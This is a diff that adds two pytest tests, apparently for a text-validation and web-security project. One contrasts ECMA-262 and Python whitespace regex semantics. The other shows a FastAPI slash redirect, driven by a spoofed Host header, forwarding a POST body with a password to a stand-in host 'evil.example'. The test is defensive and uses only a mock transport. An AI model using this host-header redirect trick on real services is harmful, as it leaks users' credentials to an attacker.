@@ -11,10 +11,12 @@ import subprocess
 import unicodedata
 from typing import Annotated
 
+import httpx
 import pytest
 from claims_support import prose
 from fastapi import FastAPI
-from pydantic import TypeAdapter, ValidationError
+from httpx import ASGITransport
+from pydantic import StringConstraints, TypeAdapter, ValidationError
 from sqlalchemy import text
 from sqlalchemy.exc import DBAPIError
 from sqlalchemy.ext.asyncio import AsyncConnection
@@ -211,3 +213,54 @@ def test_pythons_dollar_matches_before_a_final_line_feed_so_python_must_fullmatc
     assert not re.fullmatch(DISPLAY_TEXT_PATTERN, "Ada\n")
     with pytest.raises(ValidationError):
         TypeAdapter(Annotated[str, display_text(10)]).validate_python("Ada\n")
+
+
+def test_backslash_s_means_something_else_in_ecma_262_than_in_python() -> None:
+    node = shutil.which("node")
+    assert node, "Node.js is needed for the ECMA-262 check: apt-get install nodejs"
+    script = 'console.log(/^\\s$/u.test("\\uFEFF"))'
+
+    ecma = subprocess.run([node, "-e", script], capture_output=True, text=True)
+
+    assert ecma.stdout.strip() == "true"
+    assert not re.fullmatch(r"\s", "\ufeff")
+    with pytest.raises(ValidationError):
+        TypeAdapter(Annotated[str, StringConstraints(pattern=r"^\s$")]).validate_python(
+            "\ufeff"
+        )
+    assert "(ECMA-262 counts U+FEFF as white space, for one)" in prose(PAGE)
+
+
+async def test_starlettes_slash_redirect_sends_a_post_body_to_the_host_header() -> None:
+    # FastAPI's default, redirect_slashes=True, with no service code at all.
+    app = FastAPI()
+
+    @app.post("/users")
+    async def register(body: dict[str, str]) -> dict[str, str]:
+        return body
+
+    sent_elsewhere: list[httpx.Request] = []
+
+    async def route(request: httpx.Request) -> httpx.Response:
+        if request.url.host == "evil.example":
+            sent_elsewhere.append(request)
+            return httpx.Response(204)
+        return await ASGITransport(app=app).handle_async_request(request)
+
+    transport = httpx.MockTransport(route)
+    async with httpx.AsyncClient(transport=transport, follow_redirects=True) as client:
+        response = await client.post(
+            "http://shop.example/users/",
+            json={
+                "email": "ada@example.com",
+                "password": "tea-for-two-12",  # pragma: allowlist secret
+            },
+            headers={"Host": "evil.example"},
+        )
+
+    assert response.history[0].status_code == 307
+    assert response.history[0].headers["location"] == "http://evil.example/users"
+    # The client followed, as a 307 asks: same method, same body, other host.
+    [followed] = sent_elsewhere
+    assert followed.method == "POST"
+    assert b"tea-for-two-12" in followed.content
